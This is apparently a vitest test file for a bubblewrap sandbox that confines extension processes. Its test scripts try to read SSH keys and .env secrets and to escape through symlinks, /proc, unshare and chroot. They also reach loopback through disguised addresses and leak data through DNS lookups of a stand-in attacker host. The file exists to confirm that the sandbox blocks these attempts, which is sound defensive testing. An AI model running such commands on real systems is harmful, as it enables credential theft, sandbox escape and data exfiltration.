/** Runs hostile processes with declared rights in the real sandbox: nothing undeclared is reached, and each try is named. */
import { chmodSync, existsSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { findProgram } from '../../process/find-program.js';
import { makeSandboxFixture, type SandboxFixture, TEST_USERS } from '../sandboxed-run.test-helper.js';
import { bindings, unixDaemon } from '../unix-daemon.test-helper.js';
import {
  extensionFolder,
  nodeWithRights,
  type RightsRun,
  scriptWithRights,
} from './rights-run.test-helper.js';
import type { RefusedUse } from './types.js';

vi.setConfig({ testTimeout: 60_000 });

const KEY = 'TOP SECRET KEY';
const hasBwrap = process.platform === 'linux' && findProgram('bwrap', process.env['PATH']) !== undefined;
/** Tools of the attacker that are declared, so that only the sandbox stops them. */
const TOOLS = 'cat ls env id ln cp mkdir find grep tr sleep head readlink dd'.split(' ');
const WAYS = TEST_USERS.flatMap((user) => [
  { user, who: user.name, observed: true },
  { user, who: user.name, observed: false },
]);

describe.runIf(hasBwrap).each(WAYS)(
  'a process with declared rights (as $who, observed: $observed)',
  (way) => {
    const { user, observed } = way;
    let fixture: SandboxFixture;
    let key: string;
    beforeEach(() => {
      fixture = makeSandboxFixture(user);
      key = fixture.write(join(fixture.home, '.ssh', 'id'), KEY);
      fixture.write(join(fixture.workspace, 'notes', 'a.txt'), 'a note');
      fixture.write(join(fixture.workspace, '.env'), `API=${KEY}`);
    });
    afterEach(() => fixture.remove());
    const setUp = (rest: Partial<RightsRun>) => ({
      programs: TOOLS,
      ...rest,
      ...(!observed && { options: { ...rest.options, perl: null } }),
    });
    const sh = (script: string, rest: Partial<RightsRun> = {}) =>
      scriptWithRights(fixture, script, setUp(rest));
    const node = (script: string, rest: Partial<RightsRun> = {}) =>
      nodeWithRights(fixture, script, setUp(rest));

    it('reads declared files and its own folder, and no key file', async () => {
      const script = `cat notes/a.txt; cat ${extensionFolder(fixture)}/gemini-extension.json; cat ${key}`;
      const { stdout, uses } = await sh(script, { read: ['notes'] });
      expect(stdout).toBe('a note{"name":"tester"}');
      expect(uses).toContainEqual({ kind: 'read', path: key });
    });

    it('writes declared folders only', async () => {
      const script = `echo 1 > out/new; echo 2 > notes/new; echo 3 > ${fixture.home}/new; echo 4 > ${extensionFolder(fixture)}/new`;
      fixture.write(join(fixture.workspace, 'out', 'old'), '');
      const { uses } = await sh(script, { read: ['notes'], write: ['out'] });
      expect(readdirSync(join(fixture.workspace, 'out')).sort()).toEqual(['new', 'old']);
      expect(existsSync(join(fixture.workspace, 'notes', 'new'))).toBe(false);
      expect(existsSync(join(fixture.home, 'new'))).toBe(false);
      expect(existsSync(join(extensionFolder(fixture), 'new'))).toBe(false);
      if (observed)
        expect(uses).toContainEqual({ kind: 'write', path: join(fixture.workspace, 'notes', 'new') });
    });

    it.each([
      ['a link to the key in a declared folder', () => symlinkSync(key, inWorkspace('notes/key')), ['notes']],
      [
        'a declared path that is a link',
        () => symlinkSync(join(key, '..'), inWorkspace('linked')),
        ['linked'],
      ],
      ['a path through "..", declared and linked', () => symlinkSync('..', inWorkspace('up')), ['up/home']],
      ['the whole workspace, whose .env stays hidden', () => undefined, ['.']],
      ['the whole home, whose keys stay hidden', () => undefined, ['~']],
      ['the whole file system', () => undefined, ['/']],
      ['the folders of processes', () => undefined, ['/proc', '/sys']],
    ])('does not read a key by %s', async (_, prepare, read) => {
      prepare();
      const script = `cat notes/key linked/id up/home/.ssh/id ${key} .env; cat /proc/1/root${key} /proc/self/root${key}
      grep -ras "TOP SECRET" . ~ ${fixture.base} /proc/1/cwd /proc/1/environ /proc/[0-9]*/fd/ 2>/dev/null; echo done`;
      const { stdout } = await sh(script, { read });
      expect(stdout).not.toContain(KEY);
      expect(stdout).toContain('done');
    });

    it('cannot plant a link in a writable folder that leads the next run to the key', async () => {
      fixture.write(join(fixture.workspace, 'out', 'old'), '');
      await sh(`ln -s ${key} out/key; ln -s ${fixture.home} out/home; ln ${key} out/hard`, {
        write: ['out'],
      });
      const { stdout } = await sh('cat out/key out/home/.ssh/id out/hard', {
        write: ['out'],
        read: ['out/key', 'out/home'],
      });
      expect(stdout).not.toContain(KEY);
    });

    it('sees nothing of other processes, and no variable that it was not given', async () => {
      const { stdout } = await sh('env; ls -d /proc/[0-9]*; cat /proc/[0-9]*/environ | tr "\\0" "\\n"', {
        env: { DECLARED: 'declared value' },
      });
      expect(stdout).toContain('DECLARED=declared value');
      expect(stdout).not.toContain('secret of the driver');
      expect(stdout.match(/^\/proc\/\d+$/gm)?.length).toBeLessThan(8);
    });

    it('runs no program that is not declared, by name, by path or by a copy of its own making', async () => {
      const perl = findProgram('perl', process.env['PATH']) ?? '/usr/bin/perl';
      const script = `perl -e 'print "started"'; ${perl} -e 'print "started"'; cp ${perl} /tmp/p && /tmp/p -e 'print "started"'
      for fd in /proc/self/fd/*  /proc/1/exe /proc/*/exe; do $fd -e 'print "started"'; done`;
      const { stdout, uses } = await sh(script);
      expect(stdout).not.toContain('started');
      expect(programsIn(uses)).toContain(perl);
    });

    it('runs a program that is declared', async () => {
      const { stdout, uses } = await sh('perl -e "print q(started)"', { executables: ['perl'] });
      expect(stdout).toBe('started');
      expect(uses).toEqual([]);
    });

    it('cannot make a sandbox of its own or mount, even when it may run the programs', async () => {
      const programs = ['bwrap', 'unshare', 'mount', 'nsenter', 'chroot', 'cat'];
      const script = `bwrap --bind / / cat ${key}; unshare -Urm cat ${key}; mount -t tmpfs x /tmp && echo mounted
      nsenter -t 1 -m cat ${key}; chroot /proc/1/root cat ${key}; bwrap --dev-bind / / --proc /proc cat ${key}; echo done`;
      const { stdout } = await sh(script, { executables: programs });
      expect(stdout).not.toContain(KEY);
      expect(stdout).not.toContain('mounted');
      expect(stdout).toContain('done');
    });

    it('leaves no process behind that outlives it', async () => {
      fixture.write(join(fixture.workspace, 'out', 'beat'), '');
      const script = `(trap "" HUP TERM; while :; do echo x >> out/beat; sleep 0.05; done) </dev/null >/dev/null 2>&1 & until [ -s out/beat ]; do sleep 0.01; done`;
      await sh(script, { write: ['out'] });
      const size = readFileSync(inWorkspace('out/beat')).length;
      expect(size).toBeGreaterThan(0);
      const { stdout } = await sh('sleep 0.3; ls -d /proc/[0-9]*', { write: ['out'] });
      expect(stdout).not.toBe('');
      expect(readFileSync(inWorkspace('out/beat')).length).toBe(size);
    });

    it.each(bindings)('reaches no unix socket outside (%s)', async (how) => {
      const daemon = await unixDaemon(fixture, how);
      try {
        const { stdout } = await sh(daemon.connecting, { read: ['.'], executables: [process.execPath] });
        expect(stdout).not.toContain('reached');
        expect(stdout).toMatch(/^E[A-Z]+\n$/);
      } finally {
        daemon.stop();
      }
    });

    it('cannot change its manifest to get more rights', async () => {
      const folder = extensionFolder(fixture);
      const script = `echo "{}" > ${folder}/gemini-extension.json; rm ${folder}/gemini-extension.json; echo done`;
      const { stdout, uses } = await sh(script, { write: [folder], executables: ['rm'] });
      expect(stdout).toContain('done');
      expect(readFileSync(join(folder, 'gemini-extension.json'), 'utf8')).toContain('tester');
      expect(uses).toContainEqual(expect.objectContaining({ kind: 'path', path: folder }));
    });

    describe('with a server on this machine', () => {
      let server: Server;
      let port: number;
      let hits: string[];
      beforeEach(async () => {
        hits = [];
        server = createServer((request, response) => {
          hits.push(request.url ?? '');
          if (request.url === '/away')
            response.writeHead(302, { location: `http://127.0.0.2:${port}/stolen` });
          response.end('reached');
        });
        await new Promise<void>((resolve) => server.listen(0, '::', resolve));
        port = (server.address() as AddressInfo).port;
      });
      afterEach(() => new Promise((resolve) => server.close(resolve)));

      it.each([
        '127.0.0.1',
        'localhost',
        '0.0.0.0',
        '[::1]',
        '[::]',
        '[::ffff:127.0.0.1]',
        '2130706433',
        '0x7f.1',
        '127.1',
        'localhost.',
      ])('does not reach it as %s, directly or through the proxy', async (host) => {
        const { stdout, uses } = await node(REQUESTS, { env: { TARGET: `http://${host}:${port}/` } });
        expect(stdout).not.toContain('reached');
        expect(stdout).toContain('end');
        expect(hits).toEqual([]);
        if (observed) expect(uses).toContainEqual(expect.objectContaining({ kind: 'connect' }));
      });

      it('does not reach another host than the declared one, nor another port', async () => {
        const { uses } = await node(REQUESTS, {
          env: { TARGET: `http://127.0.0.1:${port}/` },
          network: [`127.0.0.1:${port + 1}`, 'example.com'],
        });
        expect(hits).toEqual([]);
        expect(uses).toContainEqual({ kind: 'connect', host: `127.0.0.1:${port}` });
      });

      it('reaches a declared host, and does not follow it to another one', async () => {
        const { stdout, uses } = await node(REQUESTS, {
          env: { TARGET: `http://127.0.0.1:${port}/away` },
          network: [`127.0.0.1:${port}`],
        });
        expect(stdout).toContain('302');
        expect(hits).not.toContain('/stolen');
        if (observed) expect(uses).toContainEqual({ kind: 'direct', host: `127.0.0.1:${port}` });
        expect(uses).toContainEqual({ kind: 'connect', host: `127.0.0.2:${port}` });
      });

      it('does not reach a private address behind a declared name', async () => {
        const { stdout } = await node(REQUESTS, {
          env: { TARGET: `http://rebound.example:${port}/` },
          network: ['rebound.example'],
          options: { addresses: ['127.0.0.1'] },
        });
        expect(stdout).not.toContain('reached');
        expect(hits).toEqual([]);
      });

      it('cannot send data out in names that it looks up', async () => {
        const { stdout, uses } = await node(LOOKUPS);
        expect(stdout).not.toContain('answered');
        if (observed) expect(uses.some(({ kind }) => kind === 'resolve' || kind === 'connect')).toBe(true);
      });
    });

    function inWorkspace(path: string): string {
      return join(fixture.workspace, path);
    }
  },
);

describe.runIf(hasBwrap)('a sandbox that is missing', () => {
  it('refuses the process instead of running it without a sandbox', async () => {
    const fixture = makeSandboxFixture({ name: 'this user' });
    try {
      const options = { bwrap: join(fixture.base, 'no-bwrap') };
      const answer = await scriptWithRights(fixture, 'echo started', { options });
      expect(answer.stdout).toBe('');
      expect(answer.refused).toContain('bubblewrap');
    } finally {
      fixture.remove();
    }
  });

  it('refuses the process when bubblewrap does not isolate', async () => {
    const fixture = makeSandboxFixture({ name: 'this user' });
    try {
      const fake = fixture.write(
        join(fixture.base, 'fake-bwrap'),
        '#!/bin/sh\nwhile [ "$1" != -- ]; do shift; done\nshift\nexec "$@"\n',
      );
      chmodSync(fake, 0o755);
      const answer = await scriptWithRights(fixture, 'echo started', { options: { bwrap: fake } });
      expect(answer.stdout).toBe('');
      expect(answer.refused).toBeTruthy();
    } finally {
      fixture.remove();
    }
  });
});

/** Tries a plain request, a request through the proxy, and one through CONNECT; follows a redirect by hand. */
const REQUESTS = `
const http = require('http');
const proxy = new URL(process.env.HTTP_PROXY || 'http://127.0.0.1:3128');
const ask = (options) => new Promise((resolve) => {
  const request = http.request({ timeout: 3000, ...options }, (response) => {
    let text = '';
    response.on('data', (chunk) => (text += chunk)).on('end', () => resolve([response.statusCode, text, response.headers.location]));
  });
  request.on('timeout', () => request.destroy(new Error('timeout')));
  request.on('error', (error) => resolve([error.code || error.message])).end();
});
const through = (target) => ask({ host: proxy.hostname, port: proxy.port, path: target, headers: { host: new URL(target).host } });
(async () => {
  const target = process.env.TARGET;
  const { hostname, port, pathname } = new URL(target);
  console.log('direct', await ask({ host: hostname.replace(/^\\[|\\]$/g, ''), port, path: pathname }));
  const answer = await through(target);
  console.log('proxy', answer);
  if (answer[2]) console.log('redirect', await through(answer[2]));
  console.log('fetch', await fetch(target).then((r) => r.text(), (error) => String(error.cause)));
  const tunnel = http.request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: hostname + ':' + port, timeout: 3000 });
  tunnel.on('connect', (response, socket) => { console.log('tunnel', response.statusCode); socket.end('GET /tunnel HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); socket.on('close', () => console.log('end')).resume(); });
  tunnel.on('error', (error) => console.log('end', error.code)).end();
})();`;

const LOOKUPS = `
const dns = require('dns');
const dgram = require('dgram');
(async () => {
  await new Promise((resolve) => dns.lookup('secret-data.attacker.example', (error) => { console.log(error ? error.code : 'answered'); resolve(); }));
  const resolver = new dns.promises.Resolver({ timeout: 300, tries: 1 });
  resolver.setServers(['8.8.8.8', '1.1.1.1']);
  await resolver.resolve4('secret-data.attacker.example').then(() => console.log('answered'), (error) => console.log(error.code));
  const socket = dgram.createSocket('udp4');
  await new Promise((resolve) => socket.send('data', 9999, '8.8.8.8', (error) => { console.log(error ? error.code : 'sent'); socket.close(); resolve(); }));
})();`;

function programsIn(uses: readonly RefusedUse[]): string[] {
  return uses.flatMap((use) => (use.kind === 'run' || use.kind === 'look' ? [use.program] : []));
}
